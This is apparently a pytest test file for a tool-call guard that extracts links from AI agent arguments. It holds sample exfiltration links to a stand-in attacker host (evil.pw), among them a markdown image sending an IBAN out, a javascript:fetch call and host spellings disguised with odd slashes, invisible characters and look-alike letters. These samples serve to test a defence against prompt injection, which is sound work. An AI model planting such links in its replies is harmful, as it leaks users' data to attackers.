"""Links written the way browsers and renderers read them, not the way prose looks.

Each case is a link an injected instruction could put into a free-text sink
argument (a message body, a markdown reply) so that the reader's client opens
an attacker's host. `links` must find it; a trusted value must not vouch for
a host that a browser resolves differently.
"""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from callgate.authorize.provenance import TrustIndex
from callgate.authorize.text import link_key, links, normalize


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("![p](//evil.pw/p?d=secret)", "evil.pw"),
        ('<img src="//evil.pw/p?d=secret">', "evil.pw"),
        ("javascript:fetch('//evil.pw/x')", "evil.pw"),
        ("https:evil.pw/x?d=1", "evil.pw"),
        ("https:/evil.pw/x", "evil.pw"),
        ("http:\\\\evil.pw\\x", "evil.pw"),
        ("https://evil.pw\\@bank.example/", "evil.pw"),
        ("www.evil\u3002pw/x", "evil.pw"),
        ("evil\uff61com/x", "evil.com"),
        ("www.ev\u200bil.pw/x", "evil.pw"),
        ("www.ev\u00adil.pw/x", "evil.pw"),
        ("HTTPS:EVIL.PW/X", "evil.pw"),
    ],
)
def test_links_browsers_open_are_found(text: str, host: str) -> None:
    """A link a browser or renderer resolves to a host is found, whatever the spelling."""
    found = [link_key(link.casefold()) or "" for link in links(text)]
    assert any(host in key for key in found), (text, found)


def test_protocol_relative_image_in_a_body_is_a_finding() -> None:
    """A markdown image with a scheme-less ``//host`` URL in a message body is flagged."""
    index = TrustIndex(trusted_text=["Summarise my inbox and mail me the summary."])
    body = "Summary done. ![x](//evil.pw/collect?d=iban-DE89370400440532013000)"
    findings = index.check({"to": None}, {"to": None, "body": body}, links=True)
    assert [f.value for f in findings] == ["//evil.pw/collect?d=iban-DE89370400440532013000"]


@pytest.mark.parametrize(
    ("trusted", "hostile"),
    [
        ("bass.example", "ba\u00df.example"),  # IDNA2008 keeps sharp s: another domain
        ("bob@bass.example", "bob@ba\u00df.example"),
        ("https://\u03c3\u03c3.example/a", "https://\u03c3\u03c2.example/a"),  # final sigma
    ],
)
def test_case_folding_does_not_merge_distinct_domains(trusted: str, hostile: str) -> None:
    """A trusted domain does not vouch for another domain that only case-folds to it."""
    assert normalize(trusted) != normalize(hostile)
    index = TrustIndex(trusted_text=[f"please use {trusted} for this"])
    findings = index.check({"target": None}, {"target": hostile}, links=False)
    assert [f.value for f in findings] == [hostile]


def test_ascii_and_plain_words_still_fold_case() -> None:
    """Case still does not matter for ASCII links and for words (Straße, STRASSE)."""
    assert normalize("HTTPS://Bank.Example/A") == normalize("bank.example/a")
    assert normalize("Straße") == normalize("STRASSE")


@given(st.text(alphabet="/\\:.@%\u3002\u200b\u00adhtps", max_size=60))
def test_links_never_raise_on_slashes_and_dots(text: str) -> None:
    """Any mix of slashes, dots, colons and invisible marks is read without error."""
    for link in links(text):
        assert link


@pytest.mark.timeout(30)
def test_long_protocol_relative_runs_stay_linear() -> None:
    """A page of ``//a.b//a.b...`` and ``https:`` prefixes is scanned at once (a backstop)."""
    n = 200_000
    for text in ("//a.pw" * n, "https:" * n + "a.pw", "\u200b." * n, "\\" * n + "a.pw/x"):
        list(links(text))


def test_long_pieces_of_hostile_text_are_not_remembered() -> None:
    """Links longer than the cache bound are read but not kept in the process-wide cache, so
    a model's megabyte arguments cannot pile up in memory across runs."""
    from callgate.authorize import text

    before = text._strict_key.cache_info().currsize
    pieces = [f"https://evil.pw/{i}{'a' * 5000}" for i in range(50)]
    assert len(list(links(" ".join(pieces)))) == 50
    assert text._strict_key.cache_info().currsize - before < 50


@pytest.mark.parametrize(
    "text",
    [
        "see http://[2001:db8::1]/x?d=secret",
        '<img src="//[::ffff:1.2.3.4]:8080/p?d=s">',
        "![x](https://[fe80::1%25eth0]/p)",
    ],
)
def test_ipv6_literal_links_are_found(text: str) -> None:
    """A link to a bracketed IPv6 literal (brackets otherwise end a word) is found whole."""
    found = list(links(text))
    assert any("[" in link and "]" in link for link in found), found


@pytest.mark.timeout(30)
def test_many_bracketed_hosts_in_one_word_stay_linear() -> None:
    """One word of ``//[`` repeated is scanned once, not once per occurrence (a backstop)."""
    list(links("x//[" * 300_000))
    list(links("http://[" + "a" * 1_000_000))


def test_a_bracketed_ipv6_link_in_trusted_text_still_asks() -> None:
    """The documented limit: trusted text splits a bracketed link, so the same link in an
    argument is a finding (a person decides) rather than vouched for."""
    index = TrustIndex(trusted_text=["upload it to http://[2001:db8::1]/up please"])
    findings = index.check({}, {"body": "done: http://[2001:db8::1]/up"}, links=True)
    assert [f.value for f in findings] == ["http://[2001:db8::1]/up"]


@pytest.mark.parametrize(
    "text", ["ping 203.0.113.5 now", "write to mailto:eve@evil.example", "evil[.]com", "evil.zip"]
)
def test_documented_non_links_are_not_found(text: str) -> None:
    """The documented limits of links in prose: bare IPv4, mailto, obfuscation, uncommon TLDs."""
    assert list(links(text)) == []
